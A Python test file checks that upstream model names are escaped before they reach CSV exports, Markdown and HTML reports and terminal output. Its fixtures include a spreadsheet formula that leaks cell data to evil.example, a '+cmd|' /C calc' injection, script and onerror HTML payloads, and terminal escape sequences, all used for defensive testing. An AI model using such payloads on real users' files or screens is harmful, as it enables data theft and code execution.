"""Upstream text shown to people (issue 14, item 8): spreadsheets, Markdown and HTML reports,
terminals, error messages.

A model name is whatever an upstream wrote: ``=HYPERLINK(…)`` (a formula to a spreadsheet),
``<script>`` (HTML to a Markdown renderer), ``\\x1b]0;…`` (a terminal escape). Each must arrive
as text.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import sys
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from analysis.report import build as report_build
from cli import app
from warehouse.safe_text import (
    code_span_text,
    csv_cell,
    csv_column_sql,
    markdown_text,
    terminal_text,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML_NAME = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
ESCAPE_NAME = "gpt\x1b]0;pwned\x07-4o\x1b[2J\x9b31m"
MARKUP_NAME = "[link=http://evil.example]Claude[/link] [bold red]x"


# -- spreadsheets ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),  # a number stays a number
        ("+3e5", "+3e5"),
        ("gpt-4o", "gpt-4o"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells_never_start_a_formula(value, expected):
    assert csv_cell(value) == expected


def test_the_sql_rule_for_duckdb_copy_equals_the_python_rule(tmp_path: Path):
    names = [FORMULA, "-2+3", "@x", "\t=1", "-1.5", ".5", "gpt-4o", "it's", "", None]
    con = duckdb.connect()
    con.execute("create table models (model_id varchar, rating integer)")
    con.executemany("insert into models values (?, 1200)", [[n] for n in names])
    select = ", ".join([csv_column_sql("model_id", "VARCHAR"), csv_column_sql("rating", "INTEGER")])
    out = tmp_path / "models.csv"
    con.execute(f"copy (select {select} from models) to '{out}' (header)")
    back = duckdb.connect().execute(f"select * from read_csv('{out}', all_varchar=true)")
    rows = back.fetchall()
    assert [r[0] for r in rows] == [None if n is None else csv_cell(n) or None for n in names]
    assert {r[1] for r in rows} == {"1200"}


def test_the_data_card_says_how_csv_cells_are_neutralised():
    from analysis import datapackage

    assert "single quote" in datapackage.METHOD and "formula" in datapackage.METHOD


# -- Markdown and HTML reports -----------------------------------------------------------------
def test_markdown_text_carries_no_html_and_breaks_no_table_row():
    out = markdown_text(HTML_NAME + " | x\ny")
    assert "<" not in out and ">" not in out
    assert "\n" not in out and " | " not in out
    assert "`" not in code_span_text("a`b\nc") and "\n" not in code_span_text("a`b\nc")


@pytest.fixture
def hostile_warehouse(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    con.execute("create schema raw; create schema analysis; create schema core")
    con.execute(
        "create table raw.fetches as select 'lmarena_leaderboard_csv' as source, "
        "date '2025-06-01' as snapshot_date, timestamp '2025-06-02 00:00:00' as fetched_at"
    )
    con.execute(
        """create table analysis.arena_gap as select
             date '2025-06-01' as snapshot_date, 'lmarena_leaderboard_csv' as source,
             ? as top_proprietary, 1400.0 as proprietary_score, ? as top_open,
             1350.0 as open_score, 50.0 as gap_points, 0.57 as proprietary_win_prob,
             3.6 as gap_pct_of_proprietary, 0 as n_unknown_access""",
        [HTML_NAME, FORMULA + "|" + "`x`\nnext"],
    )
    yield con
    con.close()


def test_no_raw_html_reaches_the_markdown_or_html_report(hostile_warehouse, tmp_path: Path):
    html_path, md_path = report_build.build(
        hostile_warehouse, tmp_path / "reports", today=dt.date(2025, 7, 1)
    )
    md = md_path.read_text(encoding="utf-8")
    page = html_path.read_text(encoding="utf-8")
    assert "&lt;img src=x" in md  # the name is there, as text
    for text in (md, page):
        assert "<script>alert" not in text
        assert "<img src=x" not in text
    # every Markdown table row still has its 9 columns
    rows = [line for line in md.splitlines() if line.startswith("| 2025-06-01")]
    assert rows and all(len(re.split(r"(?<!\\)\|", r)) == 11 for r in rows)


# -- terminals ---------------------------------------------------------------------------------
def test_terminal_text_shows_escapes_as_text():
    out = terminal_text(ESCAPE_NAME)
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert out == "gpt\\x1b]0;pwned\\x07-4o\\x1b[2J\\x9b31m"


def test_sql_output_never_writes_escapes_or_interprets_markup(tmp_path: Path):
    db = tmp_path / "w.duckdb"
    con = duckdb.connect(str(db))
    con.execute("create table t as select ? as model, ? as other", [ESCAPE_NAME, MARKUP_NAME])
    con.execute('alter table t rename column other to "col\x1b[31m"')
    con.close()
    r = CliRunner().invoke(app, ["sql", "select * from t", "--db", str(db)])
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\x07" not in r.output and "\x9b" not in r.output
    assert "pwned" in r.output
    assert "[link=http://evil.example]Claude[/link]" in r.output  # shown as written


def test_errors_never_write_escapes(tmp_path: Path):
    r = CliRunner().invoke(
        app, ["sql", "select * from \x1b]0;pwned\x07nosuchtable", "--db", str(tmp_path / "x")]
    )
    assert r.exit_code == 1
    r = CliRunner().invoke(
        app, ["sql", 'select * from "\x1b[2Jnosuch"', "--db", str(_db(tmp_path))]
    )
    assert r.exit_code == 1, r.output
    assert "\x1b" not in r.output and "nosuch" in r.output


def _db(tmp_path: Path) -> Path:
    path = tmp_path / "e.duckdb"
    duckdb.connect(str(path)).close()
    return path


def test_models_tables_never_write_escapes_or_interpret_markup(capsys):
    import polars as pl

    from warehouse import registry_cli

    frame = pl.DataFrame({"model_id": [ESCAPE_NAME, MARKUP_NAME], "n\x1b[31m": [1, 2]})
    registry_cli._print(frame, False, title="models\x1b]0;t\x07")
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "pwned" in out and "[link=http://evil.example]Claude[/link]" in out


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_results_written_to_a_terminal_carry_no_escapes_but_pipes_get_the_bytes(monkeypatch):
    from warehouse.safe_text import write_stdout

    csv = f"model\n{ESCAPE_NAME}\n"
    term = _Terminal()
    monkeypatch.setattr(sys, "stdout", term)
    write_stdout(csv)
    assert "\x1b" not in term.getvalue() and "pwned" in term.getvalue()
    pipe = io.StringIO()
    monkeypatch.setattr(sys, "stdout", pipe)
    write_stdout(csv)
    assert pipe.getvalue() == csv  # a file or pipe gets the data exactly
